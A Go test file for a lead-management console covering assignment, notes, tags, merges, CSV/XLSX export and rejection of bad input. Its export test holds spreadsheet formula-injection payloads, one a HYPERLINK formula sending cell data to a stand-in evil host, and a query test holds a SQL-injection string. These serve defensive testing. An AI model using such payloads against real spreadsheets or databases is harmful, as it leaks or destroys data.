package console_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/seed-3405227d/frontdesk/backend/db"
	"github.com/seed-3405227d/frontdesk/backend/lead"
	"github.com/seed-3405227d/frontdesk/backend/operator"
	"github.com/seed-3405227d/frontdesk/backend/operator/group"
	"github.com/seed-3405227d/frontdesk/backend/scope"
	"github.com/seed-3405227d/frontdesk/backend/visit"
)

// page is what the answer shows.
func (a answer) page(t *testing.T) *goquery.Document {
	t.Helper()
	document, err := goquery.NewDocumentFromReader(strings.NewReader(a.body))
	require.NoError(t, err)
	return document
}

// listed are the names in the list of leads at the address.
func (b *browser) listed(query string) (names []string) {
	b.t.Helper()
	a := b.get("/leads?" + query)
	require.Equal(b.t, http.StatusOK, a.status, query)
	a.page(b.t).Find(".rows .row-link bdi").Each(func(_ int, s *goquery.Selection) { names = append(names, s.Text()) })
	return names
}

// colleagues are the operators of the shop.
func (d *desk) colleague(login string, sites scope.Sites) operator.Operator {
	d.t.Helper()
	o, err := d.Operators.Create(d.t.Context(), operator.Server(), operator.Account{Login: login, Password: password, Role: operator.Agent, Sites: sites})
	require.NoError(d.t, err)
	return o
}

func TestLeadsAreWorkedOn(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		ann := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "phone": "8 495 123-45-67", "message": "Two lamps"})
		boris := d.colleague("boris", scope.Of(d.shop.ID))
		vera, his := d.signedIn("vera"), d.signedIn("boris")
		at := func(what string) string { return fmt.Sprintf("/leads/%s/%d/%d", what, d.shop.ID, ann.ID) }
		page := fmt.Sprintf("/leads/%d/%d", d.shop.ID, ann.ID)

		// Both look at the list; what one does, the other sees at once.
		s := vera.follow("/leads", "")
		require.Equal(t, http.StatusSeeOther, his.post(at("owner"), "from", "0", "to", fmt.Sprint(boris.ID)).status)
		told := s.until("data-changed").data
		require.Contains(t, told, `lead-work`)
		require.Contains(t, told, "boris")

		// Who comes second is told, and nothing is changed.
		late := vera.post(at("owner"), "from", "0", "to", "1")
		require.Equal(t, http.StatusConflict, late.status)
		require.Contains(t, late.page(t).Find(".problem").Text(), "boris has already taken this lead.")
		row := vera.request(http.MethodPost, at("owner"), "from", "0", "to", "1")
		row.Header.Set("Console-Row", "in the list")
		inRow := vera.do(row)
		require.Equal(t, http.StatusConflict, inRow.status)
		require.Equal(t, fmt.Sprint(boris.ID), inRow.page(t).Find("li").AttrOr("data-owner", ""))
		require.Equal(t, []string{"Ann"}, his.listed("owner=me&state=work"))
		require.Empty(t, vera.listed("owner=me"))
		require.Empty(t, vera.listed("owner=nobody"))

		require.Equal(t, http.StatusSeeOther, his.post(at("notes"), "text", "Call her <b>on Friday</b>\r\nat noon").status)
		require.Equal(t, http.StatusSeeOther, his.post(at("owner"), "from", fmt.Sprint(boris.ID), "to", "1").status)
		require.Equal(t, http.StatusSeeOther, vera.post(at("state"), "state", "done").status)
		story := vera.get(page).page(t).Find(".story").Text()
		for _, said := range []string{"Received: ", "boris took it", "Call her <b>on Friday</b>\nat noon", "boris assigned it to vera", "vera set it to “Done”"} {
			require.Contains(t, strings.Join(strings.Fields(story), " "), strings.Join(strings.Fields(said), " "))
		}
		require.Equal(t, []string{"Ann"}, vera.listed("state=done"))
		require.Empty(t, vera.listed("state=new"))
		require.Equal(t, http.StatusSeeOther, vera.post(at("state"), "state", "spam").status)
		require.Empty(t, vera.listed(""), "spam is not in the way")
		require.Equal(t, []string{"Ann"}, vera.listed("state=spam"))
		require.Equal(t, []string{"Ann"}, vera.listed("q=1234567"), "but is found")
		require.Contains(t, vera.get(page).body, "on Friday")
	})
}

// Whatever is asked for wrongly is said, and nothing is changed.
func TestWrongWorkChangesNothing(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		ann := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "message": "Two lamps"})
		other, err := d.Sites.Provision(t.Context(), "other.example")
		require.NoError(t, err)
		eve := d.colleague("eve", scope.Of(other.ID))
		gone := d.colleague("gone", scope.All())
		require.NoError(t, d.Operators.SetDisabled(t.Context(), operator.Server(), gone.ID, true))
		vera := d.signedIn("vera")
		at := func(what string, site, id int64) string { return fmt.Sprintf("/leads/%s/%d/%d", what, site, id) }
		stored := func() (all []string) {
			for _, query := range []string{`SELECT CAST(state AS TEXT) || ' ' || CAST(owner_id AS TEXT) || ' ' || CAST(merged_into AS TEXT) FROM leads`, `SELECT said FROM lead_deeds`, `SELECT kind FROM journal WHERE kind = 'lead.changed'`} {
				rows, err := db.List(t.Context(), d.DB.Read(), db.Only[string], query)
				require.NoError(t, err)
				all = append(all, rows...)
			}
			return all
		}
		before := stored()
		for _, wrong := range []struct {
			path   string
			fields []string
			status int
		}{
			{at("state", d.shop.ID, ann.ID), []string{"state", "finished"}, 400}, {at("state", d.shop.ID, ann.ID), nil, 400}, {at("state", d.shop.ID, ann.ID), []string{"state", "4"}, 400},
			{at("state", d.shop.ID, ann.ID+1), []string{"state", "done"}, 404}, {at("state", other.ID, ann.ID), []string{"state", "done"}, 404}, {"/leads/state/1/x", []string{"state", "done"}, 404},
			{at("owner", d.shop.ID, ann.ID), []string{"from", "0", "to", "me"}, 400}, {at("owner", d.shop.ID, ann.ID), []string{"from", "-1", "to", "1"}, 400},
			{at("owner", d.shop.ID, ann.ID), []string{"from", "0", "to", "999"}, 422}, {at("owner", d.shop.ID, ann.ID), []string{"from", "7", "to", "1"}, 409},
			{at("owner", d.shop.ID, ann.ID), []string{"from", "0", "to", fmt.Sprint(eve.ID)}, 422}, {at("owner", d.shop.ID, ann.ID), []string{"from", "0", "to", fmt.Sprint(gone.ID)}, 422},
			{at("notes", d.shop.ID, ann.ID), nil, 400}, {at("notes", d.shop.ID, ann.ID), []string{"text", " "}, 422}, {at("notes", d.shop.ID, ann.ID), []string{"text", "a\x1bb"}, 422},
			{at("notes", d.shop.ID, ann.ID), []string{"text", "a\xffb"}, 422}, {at("notes", d.shop.ID, ann.ID), []string{"text", strings.Repeat("n", lead.MaxNote+1)}, 422},
			{at("notes", d.shop.ID, ann.ID), []string{"text", strings.Repeat("n", 1<<20)}, 413},
			{at("tags", d.shop.ID, ann.ID), nil, 400}, {at("tags", d.shop.ID, ann.ID), []string{"tags", strings.Repeat("x", 31)}, 422},
			{at("tags", d.shop.ID, ann.ID), []string{"tags", "a,b,c,d,e,f,g,h,i,j,k"}, 422}, {at("tags", d.shop.ID, ann.ID), []string{"tags", "a\u200eb"}, 422},
			{at("tags", d.shop.ID, ann.ID), []string{"tags", "a\xffb"}, 422}, {at("tags", other.ID, ann.ID), []string{"tags", "a"}, 404},
			{at("sale", d.shop.ID, ann.ID), []string{"sale", "yes", "amount", "much"}, 422}, {at("sale", other.ID, ann.ID), []string{"sale", "yes"}, 404},
			{at("parts", d.shop.ID, ann.ID), []string{"part", fmt.Sprint(ann.ID)}, 422}, {at("parts", d.shop.ID, ann.ID), []string{"part", "999"}, 404}, {at("parts", d.shop.ID, ann.ID), []string{"part", "x"}, 400},
			{at("parts", d.shop.ID, ann.ID) + "/removal", []string{"part", "999"}, 422},
		} {
			a := vera.post(wrong.path, wrong.fields...)
			require.Equal(t, wrong.status, a.status, "%s %.80v", wrong.path, wrong.fields)
			require.NotEmpty(t, strings.TrimSpace(a.page(t).Find(".problem, .failure").Text()), "%s %.80v", wrong.path, wrong.fields)
			require.Equal(t, before, stored(), "%s %.80v", wrong.path, wrong.fields)
		}
		// What was typed stays.
		kept := vera.post(at("notes", d.shop.ID, ann.ID), "text", "long "+strings.Repeat("n", lead.MaxNote))
		require.Contains(t, kept.page(t).Find("#note").Text(), "long nnn")

		for query, status := range map[string]int{
			"state=finished": 422, "owner=vera": 422, "owner=-1": 422, "source=nothing": 422, "number=abc": 422, "from=1e9": 422, "to=-5": 422, "since=yesterday": 422, "until=2026-02-30": 422,
			"since=2026-01-01&zone=99999": 422, "q=a": 422, "q=" + strings.Repeat("lamp+", 2048): 422, "at=1&id=x": 400, "at=&id=": 400, "at=1": 400, "id=5": 400,
			"q=%22+%7C+*": 422, "at=-9223372036854775808&id=-1": 200, "q=%00lamps": 200, "form=%FF": 422, "form=a%00": 422, "q=%FF%FElamps": 200, "q=lamps%27%29%3B+DROP+TABLE+leads": 200,
		} {
			require.Equal(t, status, vera.get("/leads?"+query).status, query)
			if !strings.Contains(query, "at=") && !strings.Contains(query, "id=") {
				require.Equal(t, status, vera.get("/leads/export?"+query).status, "export "+query)
			}
		}
	})
}

// A lead says which group it is for: by its name, or by the number that the page has sent.
func TestLeadNamesItsGroup(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		g, err := d.Groups.Keep(t.Context(), operator.Server(), group.Group{SiteID: d.shop.ID, Name: "Sales & <b>help</b>", Routing: group.ToAll})
		require.NoError(t, err)
		vera := d.signedIn("vera")
		for id, expected := range map[int64]string{g.ID: g.Name, 999: "999"} {
			l := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "group_id": id})
			facts := vera.get(fmt.Sprintf("/leads/%d/%d", d.shop.ID, l.ID)).page(t).Find(".facts dd")
			require.Contains(t, facts.Map(func(_ int, s *goquery.Selection) string { return s.Text() }), expected)
		}
	})
}

func TestLeadsAreMerged(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		h := d.hit(visit.Arrival{})
		first := d.lead(h, map[string]any{"name": "Ann", "phone": "8 495 123-45-67", "message": "Two lamps"})
		d.pass(time.Hour)
		second := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Anna P.", "phone": "+74951234567", "message": "Three lanterns", "user_fields": map[string]any{"city": "Tver"}})
		vera := d.signedIn("vera")
		page := fmt.Sprintf("/leads/%d/%d", d.shop.ID, first.ID)
		alike := vera.get(page).page(t).Find(".alike")
		require.Contains(t, alike.Text(), "Anna P.")
		action, part := alike.Find("form").AttrOr("action", ""), alike.Find("[name=part]").AttrOr("value", "")
		require.Equal(t, http.StatusSeeOther, vera.post(action, "part", part).status)
		require.Equal(t, []string{"Ann"}, vera.listed(""))
		require.Equal(t, []string{"Ann"}, vera.listed("q=lanterns"), "it is found by what the other says")
		require.Contains(t, vera.get("/leads").page(t).Find(".rows").Text(), "2 leads")
		whole := vera.get(page).body
		for _, said := range []string{"Two lamps", "Three lanterns", "Tver", "Received again"} {
			require.Contains(t, whole, said)
		}
		elsewhere := vera.get(fmt.Sprintf("/leads/%d/%d", d.shop.ID, second.ID))
		require.Equal(t, http.StatusSeeOther, elsewhere.status)
		require.Contains(t, elsewhere.header.Get("Location"), page)
		require.Equal(t, http.StatusUnprocessableEntity, vera.post(fmt.Sprintf("/leads/state/%d/%d", d.shop.ID, second.ID), "state", "done").status)

		// Nothing of either is missing in the table.
		rows := vera.export(t, "")
		require.Len(t, rows, 3)
		require.Equal(t, []string{fmt.Sprint(second.ID), fmt.Sprint(first.ID)}, rows[2][:2])
		require.Equal(t, http.StatusSeeOther, vera.post(fmt.Sprintf("/leads/parts/%d/%d/removal", d.shop.ID, first.ID), "part", part).status)
		require.Equal(t, []string{"Anna P.", "Ann"}, vera.listed(""))
		require.Equal(t, []string{"Anna P."}, vera.listed("q=lanterns"))
		require.Contains(t, vera.get(page).page(t).Find(".story").Text(), fmt.Sprintf("split lead %d off", second.ID))
	})
}

// export is the table of leads.
func (b *browser) export(t *testing.T, query string) [][]string {
	t.Helper()
	a := b.get("/leads/export?" + query)
	require.Equal(t, http.StatusOK, a.status)
	require.Contains(t, a.header.Get("Content-Disposition"), "attachment")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	return rows
}

// workbook are the rows of an answer's workbook.
func (a answer) workbook(t *testing.T) [][]string {
	t.Helper()
	require.Equal(t, http.StatusOK, a.status)
	book, err := excelize.OpenReader(strings.NewReader(a.body))
	require.NoError(t, err)
	defer book.Close()
	rows, err := book.GetRows(book.GetSheetName(0))
	require.NoError(t, err)
	return rows
}

// Operators sort leads by tags, and say which of them are sales.
func TestTagsAndSales(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		h := d.hit(visit.Arrival{})
		l := d.lead(h, map[string]any{"name": "Ann"})
		d.lead(h, map[string]any{"name": "Bob", "phone": "+7 495 111-22-33"})
		vera := d.signedIn("vera")
		page := fmt.Sprintf("/leads/%d/%d", d.shop.ID, l.ID)
		act := func(what string, fields ...string) int {
			return vera.post(fmt.Sprintf("/leads/%s/%d/%d", what, d.shop.ID, l.ID), fields...).status
		}
		require.Equal(t, http.StatusSeeOther, act("tags", "tags", " wholesale ,, Urgent  order,URGENT order,wholesale"))
		tags, _ := vera.get(page).page(t).Find("[name=tags]").Attr("value")
		require.Equal(t, "Urgent order, wholesale", tags)
		require.Equal(t, []string{"Ann"}, vera.listed("tag=wholesale"))
		require.Equal(t, []string{"Ann"}, vera.listed("tag=wholesale&q=ann"))
		require.Empty(t, vera.listed("tag=whole"))
		require.Contains(t, vera.get("/leads").page(t).Find("#tags").Children().First().AttrOr("value", ""), "Urgent order")

		require.Equal(t, http.StatusSeeOther, act("sale", "sale", "yes", "amount", "1 500,50"))
		require.Equal(t, []string{"Ann"}, vera.listed("from=1,500&to=1501"))
		story := vera.get(page).page(t).Find(".story").Text()
		require.Contains(t, story, "set the tags: Urgent order, wholesale")
		require.Contains(t, story, "marked it as a sale of 1,500.50")
		require.Equal(t, "Urgent order, wholesale", vera.export(t, "q=ann")[1][len(vera.export(t, "q=ann")[0])-1])

		require.Equal(t, http.StatusSeeOther, act("sale", "amount", "7"))
		require.Equal(t, http.StatusSeeOther, act("tags", "tags", ""))
		require.Empty(t, vera.listed("tag=wholesale"))
		require.Empty(t, vera.listed("from=0"))
		require.Equal(t, 1, vera.get(page).page(t).Find("[name=sale]:not([checked])").Length())
	})
}

// A table has all leads that the filters mean, in as many as there are, and no formula.
func TestExport(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		h := d.hit(visit.Arrival{})
		formulas := []string{`=HYPERLINK("https://evil.example?"&A1)`, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\"=1", "|cmd", "%00",
			"a;=HYPERLINK(1)", "a,=1", "a; \"+1", "a,'@b", "a\n-1", "a\r\n=1", "a\t=1", "a;＝1", "+7-495-123", "+7 495;=1"}
		for i, formula := range formulas {
			d.lead(h, map[string]any{"name": formula, "message": "a \"quoted\", text\nof lines " + fmt.Sprint(i), "form_name": "Evil", "user_fields": map[string]any{"=1": formula}})
		}
		const phone = "+7 (495) 123-45-67"
		for i := range 1200 { // more than are read at once
			d.lead(h, map[string]any{"name": fmt.Sprint("lead ", i), "form_name": "Order", "phone": phone})
		}
		vera := d.signedIn("vera")
		all := vera.export(t, "")
		require.Len(t, all, 1+len(formulas)+1200)
		seen := make(map[string]bool)
		for _, row := range all[1:] {
			seen[row[0]] = true
		}
		// A program may read the table by any separator, and take quotes as they stand.
		body := vera.get("/leads/export").body
		require.Regexp(t, `^\x{feff}("([^"]|"")*"(,|\r\n))+$`, body, "every cell is quoted")
		for cell := range strings.FieldsFuncSeq(body, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			begins := strings.TrimLeft(cell, " \"\ufeff")
			if plain := strings.Trim(begins, `"`); plain != phone && plain != "+7 495" {
				require.False(t, strings.HasPrefix(begins, "＝") || begins != "" && strings.ContainsAny(begins[:1], "=+-@|%"), "%q", cell)
			}
		}
		require.Equal(t, phone, all[1][8], "a number stands as it was written")
		require.Len(t, seen, len(all)-1, "each once")
		require.Len(t, vera.export(t, "form=Order"), 1201)
		require.Len(t, vera.export(t, "q=lead+1199"), 3, "by its name, and by its number")
		evil := vera.export(t, "form=Evil")
		require.Contains(t, evil[len(evil)-1][6], `'=HYPERLINK("https://evil.example?"&A1)`, "the text itself stays")
		require.Equal(t, "a \"quoted\", text\nof lines 0", evil[len(evil)-1][10])

		book := vera.get("/leads/export?format=xlsx&form=Evil").workbook(t)
		require.Len(t, book, len(evil))
		require.Equal(t, evil[0], book[0])
		require.Equal(t, formulas[0], book[len(book)-1][6], "in a workbook it is a text as it stands")
	})
}

// Of two who take a lead at the same moment one has it, and the other is told.
func TestTwoTakeAtOnce(t *testing.T) {
	each(t, func(t *testing.T, d *desk) {
		ann := d.lead(d.hit(visit.Arrival{}), map[string]any{"name": "Ann", "message": "Two lamps"})
		boris := d.colleague("boris", scope.All())
		browsers, ids := []*browser{d.signedIn("vera"), d.signedIn("boris")}, []int64{1, boris.ID}
		answers := make([]answer, 2)
		var group sync.WaitGroup
		for i, b := range browsers {
			group.Go(func() {
				answers[i] = b.post(fmt.Sprintf("/leads/owner/%d/%d", d.shop.ID, ann.ID), "from", "0", "to", fmt.Sprint(ids[i]))
			})
		}
		group.Wait()
		require.ElementsMatch(t, []int{http.StatusSeeOther, http.StatusConflict}, []int{answers[0].status, answers[1].status})
		now, err := d.Leads.Get(context.WithoutCancel(t.Context()), d.shop.ID, ann.ID)
		require.NoError(t, err)
		winner := map[bool]int{true: 0, false: 1}[answers[0].status == http.StatusSeeOther]
		require.Equal(t, ids[winner], now.Owner)
	})
}
